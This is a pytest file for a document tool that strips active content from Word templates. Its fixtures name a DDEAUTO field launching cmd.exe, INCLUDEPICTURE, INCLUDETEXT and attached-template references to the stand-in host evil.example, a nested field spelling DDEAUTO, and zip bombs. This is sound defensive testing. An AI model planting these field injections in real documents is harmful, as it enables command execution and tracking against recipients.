"""Hostile `--template` files (issue #26), built by `hostile_docx`: one file per attack.

A Word document that carries active or fetching content is used for its look only: the
bulletin is made, every thing left out is named on stderr in the reader's language, and the
bulletin, unzipped, holds no macro, no field that runs, no relationship outside the file, no
attached template; LibreOffice still prints it.  A file that is not a Word document is a
usage error (exit 2) naming the file and saying what to give instead.  Either way the plan
directory is byte-identical afterwards."""

from __future__ import annotations

import hashlib
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import external
import hostile_docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from lxml import etree

from suizhou_plan.render.docx_template import TemplateError, sanitise

NAME = "公文模板.docx"  # the same in both scripts: the name is shown as typed
OUT = "通报.docx"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"

EN = {
    "macros": "--template {file}: dropped its macros ({part})",
    "field": "--template {file}: dropped the field {field} ({part}); a template keeps only "
             "page numbers, dates and document properties",
    "link": "--template {file}: dropped a link to {target} outside the file ({part})",
    "attached": "--template {file}: dropped the attached template {target} ({part})",
    "image": "--template {file}: dropped the image {part}: {size} MB, more than the {limit} MB "
             "an image may have",
    "more": "--template {file}: dropped {n} fields in all; the first {shown} are named above",
}
ZH = {
    "macros": "--template {file}：已删除其中的宏（{part}）",
    "field": "--template {file}：已删除域 {field}（{part}）；模板中只保留页码、日期和文档属性域",
    "link": "--template {file}：已删除指向文件之外 {target} 的链接（{part}）",
    "attached": "--template {file}：已删除附加模板 {target}（{part}）",
    "image": "--template {file}：已删除图片 {part}：{size} MB，超过图片上限 {limit} MB",
    "more": "--template {file}：共删除 {n} 个域，上面列出了前 {shown} 个",
}
MACROS = ("macros", {"part": "word/vbaProject.bin"})
DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
DDE_BODY = ("field", {"field": DDE, "part": "word/document.xml"})
DDE_HEADER = ("field", {"field": DDE, "part": "word/header1.xml"})
INCLUDEPICTURE = ("field", {"field": r'INCLUDEPICTURE "http://evil.example/track.png" \d',
                            "part": "word/footer1.xml"})
TRACKER = ("link", {"target": "http://evil.example/track.png", "part": "word/footer1.xml"})
INCLUDETEXT = ("field", {"field": r'INCLUDETEXT "\\\\evil.example\\share\\x.docx"',
                         "part": "word/header1.xml"})
LOGO = ("link", {"target": "http://evil.example/logo.png", "part": "word/header1.xml"})
REMOTE_TEMPLATE = ("link", {"target": "http://evil.example/normal.dotm",
                            "part": "word/header1.xml"})
ATTACHED = ("attached", {"target": "http://evil.example/normal.dotm",
                         "part": "word/settings.xml"})
LARGE = ("image", {"part": "word/media/image1.png", "size": "5.0", "limit": "4.0"})

ACCEPTED = {
    "macros": [MACROS],
    "dde-body": [DDE_BODY],
    "dde-header": [DDE_HEADER],
    "includepicture-footer": [INCLUDEPICTURE, TRACKER],
    "includetext-header": [INCLUDETEXT],
    "remote-image": [LOGO],
    "remote-hyperlink": [REMOTE_TEMPLATE],
    "attached-template": [ATTACHED],
    "large-image": [LARGE],
    "nested-fields": [*(("field", {"field": rf"DDEAUTO c:\x{n}.exe {{…}}", "part": "word/header1.xml"})
                        for n in range(20)),
                      ("more", {"n": hostile_docx.NESTED, "shown": 20})],
    # in the order the parts are read: the document, its settings, header, footer
    "everything": [MACROS, DDE_BODY, ATTACHED, INCLUDETEXT, DDE_HEADER, REMOTE_TEMPLATE,
                   INCLUDEPICTURE, TRACKER],
}

REFUSED_EN = {
    "not-a-zip": "--template {file} is not a Word document (.docx); give a document saved by "
                 "Word or WPS as .docx",
    "xlsx-renamed": "--template {file} is an Excel workbook, not a Word document; give a Word "
                    "document (.docx)",
    "docm": "--template {file} is a macro-enabled Word document (.docm or .dotm); open it in "
            "Word, save it as a Word Document (.docx), which keeps no macros, and give that",
    "entity-in-styles": "--template {file}: word/styles.xml declares a DTD or entities, which a "
                        "Word document never does; open the template in Word, save it again as "
                        ".docx and give that",
    "huge-image": "--template {file}: word/media/image9.png would unpack to 1024.0 MB, more "
                  "than the 16.0 MB a part of a template may have (a zip bomb, or a huge image); "
                  "give a .docx with smaller images",
    "many-big-parts": "--template {file} would unpack to 60.8 MB, more than the 16.0 MB a "
                      "template may have; give a .docx with smaller images",
    "lying-sizes": "--template {file} is damaged (word/styles.xml cannot be read); open it in "
                   "Word, save it again as .docx and give that",
    "word97": "--template {file} is a Word 97–2003 document (.doc) or a document protected by "
              "a password; open it in Word and save it as a Word Document (.docx) without a "
              "password, and give that",
    "broken-styles": "--template {file} is damaged (word/styles.xml cannot be read); open it in "
                     "Word, save it again as .docx and give that",
    "too-many-styles": "--template {file}: word/styles.xml defines 2664 styles, more than the "
                       "2000 a template may have; give a template saved by Word or WPS",
    "many-parts": "--template {file} holds 5021 parts, more than the 2000 a Word document has; "
                  "give a .docx saved by Word or WPS",
    "long-letterhead": "--template {file}: its styles, headers, footers and text unpack to more "
                       "than 4.0 MB; give a template that holds the letterhead and the styles, "
                       "not a whole document",
    "huge-header": "--template {file}: word/header1.xml would unpack to 5.0 MB, more than the "
                   "2.0 MB a template's styles, letterhead or text may have; give a template "
                   "that holds the letterhead and the styles, not a whole document",
}
REFUSED_ZH = {
    "not-a-zip": "--template {file} 不是 Word 文档（.docx）；请提供用 Word 或 WPS 保存为 .docx 的文档",
    "xlsx-renamed": "--template {file} 是Excel 工作簿，不是 Word 文档；请提供 Word 文档（.docx）",
    "docm": "--template {file} 是启用宏的 Word 文档（.docm 或 .dotm）；请在 Word 中打开，另存为不含"
            "宏的“Word 文档（.docx）”后再提供",
    "entity-in-styles": "--template {file}：word/styles.xml 声明了 DTD 或实体，Word 文档从不如此；"
                        "请在 Word 中打开模板，重新另存为 .docx 后再提供",
    "huge-image": "--template {file}：word/media/image9.png 解压后有 1024.0 MB，超过模板中单个部件"
                  "的上限 16.0 MB（压缩炸弹或超大图片）；请提供图片较小的 .docx",
    "many-big-parts": "--template {file} 解压后共有 60.8 MB，超过模板的上限 16.0 MB；请提供图片较小"
                      "的 .docx",
    "lying-sizes": "--template {file} 已损坏（无法读取 word/styles.xml）；请在 Word 中打开，重新另存"
                   "为 .docx 后再提供",
    "word97": "--template {file} 是 Word 97–2003 文档（.doc）或设有密码的文档；请在 Word 中打开，"
              "另存为不设密码的“Word 文档（.docx）”后再提供",
    "broken-styles": "--template {file} 已损坏（无法读取 word/styles.xml）；请在 Word 中打开，重新另"
                     "存为 .docx 后再提供",
    "too-many-styles": "--template {file}：word/styles.xml 定义了 2664 个样式，超过模板上限 2000 个；"
                       "请提供用 Word 或 WPS 保存的模板",
    "many-parts": "--template {file} 含 5021 个部件，超过 Word 文档应有的 2000 个；请提供用 Word 或 WPS "
                  "保存的 .docx",
    "long-letterhead": "--template {file}：其中的样式、页眉、页脚和正文解压后超过 4.0 MB；请提供只含"
                       "信头和样式的模板，而不是整篇文档",
    "huge-header": "--template {file}：word/header1.xml 解压后有 5.0 MB，超过模板中样式、信头或正文"
                   "的上限 2.0 MB；请提供只含信头和样式的模板，而不是整篇文档",
}


def _warnings(name: str, lang: str) -> str:
    words, prefix = (EN, "warning: ") if lang == "en" else (ZH, "警告：")
    return "".join(prefix + words[kind].format(file=NAME, **args) + "\n"
                   for kind, args in ACCEPTED[name])


def _digest(directory: Path) -> dict[str, str]:
    return {str(p.relative_to(directory)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(directory.rglob("*")) if p.is_file()}


def _cli(cwd: Path, *args: str, lang: str) -> subprocess.CompletedProcess[str]:
    """The installed entry point, error boundary and all, in its own process."""
    return subprocess.run([sys.executable, "-m", "suizhou_plan", "check", "--as-of",
                           "2024-01-15", "--format", "docx", "--out", OUT, "--lang", lang,
                           *args], cwd=cwd, capture_output=True, text=True, timeout=120,
                          env=dict(os.environ))


def _instructions(package: zipfile.ZipFile) -> list[str]:
    """Every field instruction in every XML part: simple fields and complex ones."""
    found = []
    for name in package.namelist():
        if not name.endswith(".xml"):
            continue
        root = etree.fromstring(package.read(name))
        found += [e.get(f"{W}instr", "") for e in root.iter(f"{W}fldSimple")]
        found += [e.text or "" for e in root.iter(f"{W}instrText")]
    return found


def _nothing_that_acts(path: Path) -> zipfile.ZipFile:
    package = zipfile.ZipFile(path)
    names = package.namelist()
    assert not [n for n in names if "vba" in n.lower() or n.lower().endswith(".bin")], names
    types = package.read("[Content_Types].xml").decode()
    assert "macroEnabled" not in types and "vbaProject" not in types
    for instruction in _instructions(package):
        assert instruction.split()[0] == "PAGE", instruction  # the letterhead's page number
    for name in names:
        if name.endswith(".rels"):
            rels = etree.fromstring(package.read(name))
            assert [r.get("Target") for r in rels if r.get("TargetMode")] == [], name
    settings = package.read("word/settings.xml").decode()
    assert "attachedTemplate" not in settings and "linkStyles" not in settings
    everything = b"".join(package.read(n) for n in names).decode("utf-8", "replace")
    for gone in (hostile_docx.DDE_RESULT, "INCLUDETEXT结果", hostile_docx.BODY, "evil.example"):
        assert gone not in everything, gone
    return package


@pytest.mark.parametrize("lang", ["en", "zh-Hans"])
@pytest.mark.parametrize("name", list(ACCEPTED))
def test_a_hostile_word_template_is_used_for_its_look_and_each_thing_dropped_is_named(
        run_cli, plan_copy, tmp_path, name, lang):
    (tmp_path / NAME).write_bytes(hostile_docx.accepted(name))
    before = _digest(plan_copy)
    result = run_cli("check", "--as-of", "2024-01-15", "--format", "docx", "--out", OUT,
                     "--template", NAME, "--lang", lang)
    assert result.exit_code == 1  # the bundled plan's overdue items, as without a template
    wrote = "wrote " if lang == "en" else "已生成 "
    assert result.stderr == _warnings(name, lang) + f"{wrote}{OUT}\n"
    assert _digest(plan_copy) == before
    package = _nothing_that_acts(tmp_path / OUT)
    header = package.read("word/header1.xml").decode()
    assert hostile_docx.LETTERHEAD in header  # the letterhead stays
    pictures = [n for n in package.namelist() if n.startswith("word/media/")]
    if name in ("large-image", "remote-image"):
        assert "<w:drawing>" not in header  # the picture went with what it pointed at
    else:
        assert pictures == ["word/media/image1.png"]
        assert package.read(pictures[0]) == hostile_docx.png()
    document = package.read("word/document.xml").decode()
    assert "关于《数字随州建设实施方案》推进情况的通报" in document or lang == "en"


@pytest.mark.parametrize("lang", ["en", "zh-Hans"])
@pytest.mark.parametrize("name", list(REFUSED_EN))
def test_a_file_that_is_not_a_word_document_is_a_usage_error_that_says_what_to_give(
        plan_copy, tmp_path, name, lang):
    (tmp_path / NAME).write_bytes(hostile_docx.REFUSED[name]())
    before = _digest(plan_copy)
    done = _cli(tmp_path, "--template", NAME, lang=lang)
    assert done.returncode == 2, done.stderr
    expected = (REFUSED_EN if lang == "en" else REFUSED_ZH)[name].format(file=NAME)
    assert done.stderr.splitlines()[-1] == ("Error: " if lang == "en" else "错误：") + expected
    assert "Traceback" not in done.stderr and " object at 0x" not in done.stderr
    assert done.stdout == ""
    assert not (tmp_path / OUT).exists()
    assert _digest(plan_copy) == before


@pytest.mark.parametrize("kind", ["directory", "fifo", "device"])
def test_only_a_regular_file_is_read_as_a_template(plan_copy, tmp_path, kind):
    """A directory, a FIFO (which would block a reader forever) or a link to a device is
    refused before a byte is read from it."""
    target = tmp_path / NAME
    if kind == "directory":
        target.mkdir()
    elif kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero")
    done = _cli(tmp_path, "--template", NAME, lang="en")
    assert done.returncode == 2
    assert done.stderr.splitlines()[-1] == (
        f"Error: --template {NAME} is not a file but a directory, device or pipe; give a Word "
        "document (.docx)")
    done = _cli(tmp_path, "--template", NAME, lang="zh-Hans")
    assert done.stderr.splitlines()[-1] == (
        f"错误：--template {NAME} 不是文件，而是目录、设备或管道；请提供 Word 文档（.docx）")


def test_libreoffice_prints_the_bulletin_made_with_every_attack_in_its_template(
        run_cli, plan_copy, tmp_path):
    soffice, pdftotext = external.libreoffice(), external.pdftotext()
    (tmp_path / NAME).write_bytes(hostile_docx.accepted("everything"))
    result = run_cli("check", "--as-of", "2024-01-15", "--format", "docx", "--out", "tongbao.docx",
                     "--template", NAME, "--lang", "zh-Hans")
    assert result.exit_code == 1, result.stderr
    _nothing_that_acts(tmp_path / "tongbao.docx")
    done = subprocess.run(
        [str(soffice), f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "tongbao.docx")],
        capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr
    text = subprocess.run([str(pdftotext), str(tmp_path / "tongbao.pdf"), "-"],
                          capture_output=True, text=True, timeout=60, check=True).stdout
    flat = re.sub(r"\s+", "", text)
    for words in (hostile_docx.LETTERHEAD, "关于《数字随州建设实施方案》推进情况的通报",
                  "一、总体情况", "二、逾期事项", "六、下一步工作要求", "数字随州建设领导小组办公室"):
        assert words in flat, words
    for gone in (hostile_docx.DDE_RESULT, "INCLUDETEXT结果", "模板下载" + "http",
                 re.sub(r"\s+", "", hostile_docx.BODY)):
        assert gone not in flat, gone


# -- the sieve on its own: what the command-line corpus does not reach -------------------------

def _sanitised_parts(files: dict[str, bytes]) -> dict[str, bytes]:
    safe = sanitise(hostile_docx.rezip(files), NAME)
    return hostile_docx.parts(safe.data)


def test_a_field_whose_keyword_is_built_from_nested_fields_is_dropped_whole():
    """`{ {QUOTE 68 68 69 65 85 84 79} "cmd" }` spells DDEAUTO at run time: no list of bad
    names would see it, the allow-list does; `{= {PAGE} - 1}` stays."""
    files = hostile_docx.parts(hostile_docx.letterhead())

    def field(*runs: str) -> str:
        return "".join(f"<w:r>{r}</w:r>" for r in runs)

    begin, sep, end = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="separate"/>',
                       '<w:fldChar w:fldCharType="end"/>')
    quote = field(begin, '<w:instrText xml:space="preserve"> QUOTE 68 68 69 65 85 84 79 </w:instrText>',
                  sep, "<w:t>DDEAUTO</w:t>", end)
    page = field(begin, '<w:instrText xml:space="preserve"> PAGE </w:instrText>', sep,
                 "<w:t>1</w:t>", end)
    spelled = field(begin) + quote + field('<w:instrText xml:space="preserve"> "cmd" </w:instrText>',
                                           sep, "<w:t>拼出的域</w:t>", end)
    formula = field(begin, '<w:instrText xml:space="preserve"> = </w:instrText>') + page + field(
        '<w:instrText xml:space="preserve"> - 1 </w:instrText>', sep, "<w:t>0</w:t>", end)
    header = files["word/header1.xml"].decode()
    files["word/header1.xml"] = header.replace("</w:hdr>", f"<w:p>{spelled}</w:p><w:p>{formula}</w:p></w:hdr>").encode()
    safe = sanitise(hostile_docx.rezip(files), NAME)
    assert [str(m) for m in safe.dropped] == [
        EN["field"].format(file=NAME, field='{…} "cmd"', part="word/header1.xml"),
        EN["field"].format(file=NAME, field="QUOTE 68 68 69 65 85 84 79", part="word/header1.xml")]
    header = hostile_docx.parts(safe.data)["word/header1.xml"].decode()
    assert "拼出的域" not in header and "QUOTE" not in header and "DDEAUTO" not in header
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)<", header)
    assert instructions == [" = ", " PAGE ", " - 1 "]


def test_a_word_template_dotx_is_taken_as_a_document():
    files = hostile_docx.parts(hostile_docx.letterhead())
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    safe = _sanitised_parts(files)
    assert b"wordprocessingml.document.main+xml" in safe["[Content_Types].xml"]
    assert hostile_docx.LETTERHEAD.encode() in safe["word/header1.xml"]


def test_what_the_output_does_not_need_is_left_behind_silently():
    """Thumbnail, custom XML, web settings, extended properties, the template's body and its
    core properties: not active, not named, not kept."""
    files = hostile_docx.parts(hostile_docx.letterhead())
    safe = sanitise(hostile_docx.rezip(files), NAME)
    assert safe.dropped == ()
    kept = hostile_docx.parts(safe.data)
    assert sorted(kept) == [
        "[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "word/_rels/document.xml.rels",
        "word/_rels/header1.xml.rels", "word/document.xml", "word/fontTable.xml",
        "word/footer1.xml", "word/header1.xml", "word/media/image1.png", "word/numbering.xml",
        "word/settings.xml", "word/styles.xml", "word/stylesWithEffects.xml",
        "word/theme/theme1.xml"]
    body = etree.fromstring(kept["word/document.xml"]).find(f"{W}body")
    assert [child.tag for child in body] == [f"{W}sectPr"]
    assert list(etree.fromstring(kept["docProps/core.xml"])) == []


def test_an_embedded_object_in_the_letterhead_is_named_and_its_picture_goes_with_it():
    files = hostile_docx.parts(hostile_docx.letterhead())
    files["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + bytes(100)
    files["word/header1.xml"] = files["word/header1.xml"].replace(
        b"</w:hdr>", b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                     b'ProgID="Package" r:id="rId77"/></w:object></w:r></w:p></w:hdr>')
    files["word/_rels/header1.xml.rels"] = files["word/_rels/header1.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/'
                             b'officeDocument/2006/relationships/oleObject" '
                             b'Target="embeddings/oleObject1.bin"/></Relationships>')
    safe = sanitise(hostile_docx.rezip(files), NAME)
    assert [str(m) for m in safe.dropped] == [
        f"--template {NAME}: dropped an embedded object or control (word/embeddings/oleObject1.bin)"]
    kept = hostile_docx.parts(safe.data)
    assert b"w:object" not in kept["word/header1.xml"]
    assert "word/embeddings/oleObject1.bin" not in kept


def test_a_part_read_never_goes_past_its_declared_size():
    """The lying zip says 1 KB for a part of 64 MB: it is refused as damaged after reading
    at most what it declared (plus one byte), not unpacked whole."""
    with pytest.raises(TemplateError) as caught:
        sanitise(hostile_docx.lying_sizes(), NAME)
    assert str(caught.value.message) == REFUSED_EN["lying-sizes"].format(file=NAME)


def test_the_corpus_is_what_it_says():
    """The files are as hostile as their names: the bomb is small and says 1 GB."""
    bomb = hostile_docx.huge_image()
    assert len(bomb) < 1.2 * hostile_docx.MB
    with zipfile.ZipFile(io.BytesIO(bomb)) as package:
        assert package.getinfo("word/media/image9.png").file_size == 1024 * hostile_docx.MB
    with zipfile.ZipFile(io.BytesIO(hostile_docx.docm())) as package:
        assert b"macroEnabled.main+xml" in package.read("[Content_Types].xml")


def test_styles_of_the_wrong_kind_under_the_names_the_bulletin_uses_are_replaced(run_cli, plan_copy,
                                                                                  tmp_path):
    """A template whose "Title" is a table style and whose "Table Grid" is a paragraph style
    (WPS and hand-edited files do such things) still gives a bulletin, not a crash."""
    import docx

    files = hostile_docx.parts(hostile_docx.letterhead())
    styles = files["word/styles.xml"].decode()
    title = styles.index('w:styleId="Title"')
    start = styles.rindex("<w:style ", 0, title)
    styles = styles[:start] + styles[start:title].replace('w:type="paragraph"', 'w:type="table"') \
        + styles[title:]
    grid = styles.index('w:styleId="TableGrid"')
    start = styles.rindex("<w:style ", 0, grid)
    styles = styles[:start] + styles[start:grid].replace('w:type="table"', 'w:type="paragraph"') \
        + styles[grid:]
    files["word/styles.xml"] = styles.encode()
    (tmp_path / NAME).write_bytes(hostile_docx.rezip(files))
    result = run_cli("check", "--as-of", "2024-01-15", "--format", "docx", "--out", OUT,
                     "--template", NAME, "--lang", "zh-Hans")
    assert (result.exit_code, result.stderr) == (1, f"已生成 {OUT}\n")
    document = docx.Document(str(tmp_path / OUT))
    first = document.paragraphs[0]
    assert (first.style.name, first.style.type, first.text) == (
        "Title", WD_STYLE_TYPE.PARAGRAPH, "关于《数字随州建设实施方案》推进情况的通报")


@pytest.mark.parametrize(("change", "damaged"), [
    # no section settings at all: Word's defaults, the bulletin is made
    (lambda xml: re.sub(r"<w:sectPr.*</w:sectPr>", "", xml, flags=re.S), None),
    # no body: not a document
    (lambda xml: re.sub(r"<w:body>.*</w:body>", "", xml, flags=re.S), "word/document.xml"),
    # a page width that is no number: python-docx would trip on it when laying out a table
    (lambda xml: re.sub(r'(<w:pgSz w:w=")\d+', r"\1wide", xml), "word/document.xml"),
])
def test_a_document_part_without_what_python_docx_needs_is_mended_or_refused(change, damaged):
    """Found by fuzzing the letterhead's parts (attribute values, elements removed): each
    was a crash in the render, after the check had run."""
    from suizhou_plan.render.official_docx import Block, Cell, render

    files = hostile_docx.parts(hostile_docx.letterhead())
    files["word/document.xml"] = change(files["word/document.xml"].decode()).encode()
    if damaged is not None:
        with pytest.raises(TemplateError) as caught:
            sanitise(hostile_docx.rezip(files), NAME)
        assert str(caught.value.message) == (
            f"--template {NAME} is damaged ({damaged} cannot be read); open it in Word, save it "
            "again as .docx and give that")
        return
    safe = sanitise(hostile_docx.rezip(files), NAME)
    data = render([Block("title", "标题"), Block("table", header=["甲", "乙"],
                                                 rows=[[Cell("1"), Cell("2", True)]])],
                  title="标题", template=safe)
    assert b"<w:tbl>" in hostile_docx.parts(data)["word/document.xml"]
